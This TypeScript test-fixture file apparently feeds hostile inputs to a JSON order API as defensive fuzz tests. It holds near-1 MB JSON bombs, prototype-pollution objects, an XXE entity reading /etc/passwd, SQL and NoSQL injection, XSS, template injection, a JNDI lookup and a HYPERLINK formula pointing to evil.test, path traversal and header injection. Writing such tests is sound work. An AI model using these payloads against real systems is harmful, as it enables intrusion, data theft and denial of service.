/** Texts and values that attackers and accidents send; each by a name. */

const MIB = 1_048_576;

/** A text of a length, of one part again and again. */
const filled = (part: string, bytes: number) => part.repeat(Math.floor(bytes / Buffer.byteLength(part)));

const keys = (count: number) => Array.from({ length: count }, (_, index) => `"k${index}":0`).join();

/** Whole bodies below the limit of 1 MB, each of them heavy in its own way. */
export const BOMBS: readonly [name: string, body: string][] = [
  ["lists in lists", filled("[", MIB)],
  ["lists in lists that end", `${"[".repeat(MIB / 2)}${"]".repeat(MIB / 2)}`],
  ["objects in objects", filled('{"a":', MIB)],
  ["objects and lists in turn", filled('[{"a":', MIB)],
  ["a list of half a million numbers", `[0${",0".repeat(MIB / 2 - 2)}]`],
  ["a list of empty lists", `[[]${",[]".repeat(MIB / 3 - 2)}]`],
  ["a list of empty objects", `{"lines":[{}${",{}".repeat(MIB / 3 - 8)}]}`],
  ["70,000 keys", `{${keys(70_000)}}`],
  ["one key again and again", `{${filled('"a":0,', MIB - 20)}"a":0}`],
  ["a key of a million letters", `{"${"k".repeat(MIB - 10)}":0}`],
  ["a key of escapes", `{"${filled("\\u0061", MIB - 20)}":0}`],
  ["a text of a million letters", `{"externalId":"${"x".repeat(MIB - 30)}"}`],
  ["a text of escapes", `{"externalId":"${filled("\\u0041", MIB - 30)}"}`],
  ["a text of backslashes", `{"externalId":"${filled("\\\\", MIB - 30)}"}`],
  ["a text that never ends", `{"externalId":"${filled('\\"', MIB - 30)}`],
  ["a number of a million digits", `{"total":{"amountMinor":${"9".repeat(MIB - 60)},"currency":"UAH"}}`],
  ["a fraction of a million digits", `{"total":{"amountMinor":0.${"1".repeat(MIB - 60)},"currency":"UAH"}}`],
  ["an exponent of a million digits", `{"total":{"amountMinor":1e${"9".repeat(MIB - 60)},"currency":"UAH"}}`],
  ["a list of huge numbers", `[${filled("1e1000000,", MIB / 8)}0]`],
  ["a time of a million digits", `{"placedAt":"${"2".repeat(MIB - 40)}"}`],
  ["an address of a million letters", `{"url":"https://${"a.".repeat(MIB / 2 - 20)}"}`],
  ["an e-mail of a million letters", `{"customer":{"email":"${"a@".repeat(MIB / 2 - 30)}"}}`],
  ["an e-mail of a million points", `{"email":"a@${"a.".repeat(MIB / 2 - 30)}"}`],
  ["a phone of a million digits", `{"customer":{"phone":"${"0".repeat(MIB - 40)}"}}`],
  ["a text of spaces", `{"customer":{"firstName":"${" ".repeat(MIB - 50)}"}}`],
  ["nothing but spaces", " ".repeat(MIB)],
  ["nothing but NULs", "\u0000".repeat(MIB)],
  ["a million commas", `[${",".repeat(MIB - 2)}]`],
  ["a million quotes", '"'.repeat(MIB)],
  ["a million colons", `{${":".repeat(MIB - 2)}}`],
];

/** Bodies that are no JSON, or none that may be read. */
export const UNREADABLE: readonly [name: string, body: string | Buffer][] = [
  ["nothing", ""],
  ["half of an object", '{"externalId":'],
  ["two objects", "{}{}"],
  ["a comment", '{"a":1}//'],
  ["a trailing comma", '{"a":1,}'],
  ["single quotes", "{'a':1}"],
  ["NaN", '{"total":NaN}'],
  ["a prototype", '{"__proto__":{"isAdmin":true}}'],
  ["an escaped prototype", '{"__pr\\u006fto__":{"isAdmin":true}}'],
  ["a prototype inside", '{"customer":{"__proto__":{"isAdmin":true}}}'],
  ["a key twice", '{"externalId":"1","externalId":"2"}'],
  ["a key twice, once escaped", '{"externalId":"1","external\\u0049d":"2"}'],
  ["half of a letter", '{"externalId":"\\ud83d"}'],
  ["half of a letter in a key", '{"\\ude00":1}'],
  ["bytes that are no UTF-8", Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d])],
  ["overlong UTF-8", Buffer.from([0x22, 0xc0, 0xaf, 0x22])],
  ["UTF-16", Buffer.from('{"externalId":"1"}', "utf16le")],
  ["gzip", Buffer.from("1f8b08000000000000ffab5632303002000000ffff", "hex")],
  ["a control character", '{"externalId":"a\u0001b"}'],
  ["XML", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
];

/** JSON that stands where one value should: texts, and everything else there is. */
export const VALUES: readonly [name: string, json: string][] = [
  ...["null", "true", "-1", "0", "1.5", "-0", "1e400", "-1e-400", "1e1000000", "9007199254740993", "[]", "{}"],
  ...["[null]", "[[]]", '{"$ne":null}', '{"constructor":{"prototype":{"isAdmin":true}}}', '{"toString":1}'],
  ...['{"amountMinor":1e3,"currency":"UAH"}', '{"amountMinor":"1","currency":"UAH"}', `${"9".repeat(400)}`],
].map((json): [string, string] => [json.slice(0, 40), json]);

/** As template strings of many languages have it. */
function dollar(expression: string): string {
  return `$\{${expression}}`;
}

const TEXTS: readonly [name: string, text: string][] = [
  ["an empty text", ""],
  ["a space", " "],
  ["a NUL", "a\u0000b"],
  ["control characters", "\u0001\u0002\u001b[31m\u007f\u0085\u009f"],
  ["a carriage return", "Olena\r\nBcc: mallory@evil.test"],
  ["line separators", "a\u2028b\u2029c"],
  ["a right-to-left override", "\u202egnp.exe\u202c\u2066x\u2069"],
  ["zero widths", "\u200b\u200c\u200d\u2060\ufeff"],
  ["a joined family", "👩‍👩‍👧‍👦🏳️‍🌈🇺🇦"],
  ["marks on marks", `Z${"\u0300\u0489".repeat(200)}`],
  ["letters of other scripts", "田中さん مرحبا שלום नमस्ते Ωμέγα"],
  ["a Turkish i", "İıi̇"],
  ["a ligature", "ﬀﬁﬃ ㍿ ½ Å"],
  ["the last code points", "\uffff\ufffe\u{10ffff}\ufdd0"],
  ["a replacement character", "\ufffd"],
  ["SQL", "'; DROP TABLE orders; --"],
  ["a logical expression", "1' OR '1'='1"],
  ["a NoSQL expression", '{"$gt":""}'],
  ["an expression of DynamoDB", "attribute_exists(pk) OR #pk = :pk"],
  ["a script", "<script>alert(1)</script>"],
  ["an image", '"><img src=x onerror=alert(1)>'],
  ["Liquid", "{{ store.name }}{% assign x = 1 %}"],
  ["expressions of other languages", `${dollar("7*7")} #{7*7} <%= 7*7 %> {{7*7}} $(id) \`id\``],
  ["a look-up", dollar("jndi:ldap://evil.test/a")],
  ["a formula", '=HYPERLINK("https://evil.test","x")'],
  ["a path", "../../../../etc/passwd\u0000.png"],
  ["an address", "javascript:alert(1)"],
  ["a format", "%s%s%n%x%p%99999999d"],
  ["a prototype's name", "__proto__"],
  ["the name of what makes an object", "constructor"],
  ["a method's name", "hasOwnProperty"],
  ["our mark of an id", "^"],
  ["our separator", "order#ord_1#state"],
  ["a name of nothing", "undefined"],
  ["a number in words", "Infinity"],
  ["300 letters", "x".repeat(300)],
  ["300 emoji", "😀".repeat(300)],
  ["10,000 letters", "ї".repeat(10_000)],
  ["a far day", "9999-12-31T23:59:59.999Z"],
  ["a day that is none", "2026-02-30T25:61:61Z"],
  ["a year of six digits", "+275760-09-13T00:00:00.000Z"],
  ["a day before all", "0000-01-01T00:00:00Z"],
  ["a leap second", "2026-12-31T23:59:60Z"],
];

/** Values in the place of any leaf, as JSON. */
export const NAUGHTY: readonly [name: string, json: string][] = [
  ...VALUES,
  ...TEXTS.map(([name, text]): [string, string] => [name, JSON.stringify(text)]),
];

/** The texts alone. */
export const NAUGHTY_TEXTS: readonly [name: string, text: string][] = TEXTS;

/** Every place of a value, as a path; lists and objects are places too. */
export function placesIn(value: unknown, path: readonly string[] = []): string[][] {
  if (typeof value !== "object" || value === null) return [[...path]];
  const inside = Object.entries(value).flatMap(([name, part]) => placesIn(part, [...path, name]));
  return path.length > 0 ? [[...path], ...inside] : inside;
}

const HERE = "\u0011here\u0011";

/** The JSON of a value in which one place holds other JSON, which JavaScript may not be able to hold. */
export function replacedAt(value: unknown, path: readonly string[], json: string): string {
  const copy = structuredClone(value) as Record<string, unknown>;
  const parent = path.slice(0, -1).reduce((part, name) => part[name] as Record<string, unknown>, copy);
  parent[path.at(-1) as string] = HERE;
  return JSON.stringify(copy).replace(JSON.stringify(HERE), () => json);
}
